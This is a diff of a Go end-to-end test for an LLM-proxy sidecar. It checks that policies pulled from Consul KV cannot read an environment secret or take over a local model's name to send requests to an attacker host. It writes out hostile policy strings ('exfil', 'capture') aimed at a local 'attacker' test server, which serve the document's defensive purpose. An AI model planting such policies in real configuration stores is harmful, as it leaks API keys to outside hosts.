@@ -214,10 +214,12 @@ func TestHostilePolicyFilesAreRefusedByTheCLI(t *testing.T) {
 	}
 }
 
-// A model in a KV policy that reads the sidecar's environment is refused:
-// the variable's value reaches neither the model's host, nor status, nor
-// the logs; policy push refuses it too.
-func TestKVPolicyCannotReadTheEnvironment(t *testing.T) {
+// A policy in Consul KV cannot get at a sidecar's secrets: a model that
+// reads the environment is refused (the value reaches neither the model's
+// host, nor status, nor the logs; policy push refuses it too), and so is a
+// model that answers to a local model's name, whose requests go on to the
+// local model's host with its key.
+func TestKVPolicyCannotReachLocalSecrets(t *testing.T) {
 	const secret = "sk-e2e-secret-never-leaves"
 	t.Setenv("SIDECAR_E2E_SECRET", secret)
 	var hits atomic.Int32
@@ -227,7 +229,15 @@ func TestKVPolicyCannotReadTheEnvironment(t *testing.T) {
 		_, _ = io.WriteString(w, `{"id":"x","object":"chat.completion","choices":[]}`)
 	}))
 	defer attacker.Close()
+	var localAuth atomic.Value
+	provider := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		localAuth.Store(r.Header.Get("Authorization"))
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = io.WriteString(w, `{"id":"y","object":"chat.completion","choices":[]}`)
+	}))
+	defer provider.Close()
 	exfil := fmt.Sprintf("model \"exfil\" {\n  provider = \"openai\"\n  base_url = \"%s/v1\"\n  api_key  = env(\"SIDECAR_E2E_SECRET\")\n}\n", attacker.URL)
+	capture := fmt.Sprintf("model \"cheap\" {\n  provider = \"openai\"\n  base_url = \"%s/v1\"\n  name     = \"gpt-4o-mini\"\n}\n", attacker.URL)
 
 	// policy push refuses it before reaching Consul.
 	dir := mkdir(t, filepath.Join(t.TempDir(), "fleet"))
@@ -240,8 +250,10 @@ func TestKVPolicyCannotReadTheEnvironment(t *testing.T) {
 
 	consul := consultest.Start(t)
 	client := consul.Client(t)
-	if _, err := client.KV().Put(&api.KVPair{Key: "sidecar/policies/exfil.hcl", Value: []byte(exfil)}, nil); err != nil {
-		t.Fatal(err)
+	for key, value := range map[string]string{"sidecar/policies/exfil.hcl": exfil, "sidecar/policies/service/writer/capture.hcl": capture} {
+		if _, err := client.KV().Put(&api.KVPair{Key: key, Value: []byte(value)}, nil); err != nil {
+			t.Fatal(err)
+		}
 	}
 	port := testutil.FreePort(t)
 	file := writeFile(t, t.TempDir(), "sidecar.hcl", fmt.Sprintf(`
@@ -255,27 +267,49 @@ consul {
   policy_prefix = "sidecar/policies/"
 }
 health { heartbeat_interval = "1m" }
-`, port, consul.HTTPAddr))
+model "main" {
+  provider = "openai"
+  base_url = "%s/v1"
+  name     = "gpt-4o-mini"
+  api_key  = env("SIDECAR_E2E_SECRET")
+}
+`, port, consul.HTTPAddr, provider.URL))
 	control, logs, _ := runSidecar(t, file, port)
 	st, body := readStatus(t, control)
-	if st.LastReload == nil || st.LastReload.OK || !strings.Contains(st.LastReload.Error, "consul:sidecar/policies/exfil.hcl:4:") ||
-		!strings.Contains(st.LastReload.Error, "env() is only allowed in local files") {
+	if st.LastReload == nil || st.LastReload.OK ||
+		!strings.Contains(st.LastReload.Error, "consul:sidecar/policies/exfil.hcl:4:") ||
+		!strings.Contains(st.LastReload.Error, "env() is only allowed in local files") ||
+		!strings.Contains(st.LastReload.Error, "consul:sidecar/policies/service/writer/capture.hcl:4:3") ||
+		!strings.Contains(st.LastReload.Error, `name "gpt-4o-mini" is the name of the local model "main"`) {
 		t.Fatalf("status does not say why: %+v", st.LastReload)
 	}
-	if _, ok := st.Config.Models["exfil"]; ok {
-		t.Fatal("the policy's model is served")
+	for _, label := range []string{"exfil", "cheap"} {
+		if _, ok := st.Config.Models[label]; ok {
+			t.Fatalf("the policy's model %q is served", label)
+		}
 	}
-	resp, err := http.Post(control+"/llm/v1/chat/completions", "application/json",
-		strings.NewReader(`{"model":"exfil","messages":[{"role":"user","content":"hi"}]}`))
-	if err != nil {
-		t.Fatal(err)
+	ask := func(model string) (int, string) {
+		t.Helper()
+		resp, err := http.Post(control+"/llm/v1/chat/completions", "application/json",
+			strings.NewReader(`{"model":"`+model+`","messages":[{"role":"user","content":"hi"}]}`))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		answer, _ := io.ReadAll(resp.Body)
+		return resp.StatusCode, string(answer)
 	}
-	answer, _ := io.ReadAll(resp.Body)
-	resp.Body.Close()
-	if resp.StatusCode < 400 || hits.Load() != 0 {
-		t.Fatalf("a request for the policy's model: %d %s, %d request(s) reached its host", resp.StatusCode, answer, hits.Load())
+	code, answer := ask("exfil")
+	if code < 400 {
+		t.Fatalf("a request for the policy's model: %d %s", code, answer)
 	}
-	for what, text := range map[string]string{"status": body, "logs": logs.String(), "answer": string(answer)} {
+	if code, answer := ask("gpt-4o-mini"); code != http.StatusOK || localAuth.Load() != "Bearer "+secret {
+		t.Fatalf("a request for the local model's name: %d %s, its host got %v", code, answer, localAuth.Load())
+	}
+	if n := hits.Load(); n != 0 {
+		t.Fatalf("%d request(s) reached the policies' host", n)
+	}
+	for what, text := range map[string]string{"status": body, "logs": logs.String(), "answer": answer} {
 		if strings.Contains(text, secret) {
 			t.Fatalf("the %s show the variable's value", what)
 		}
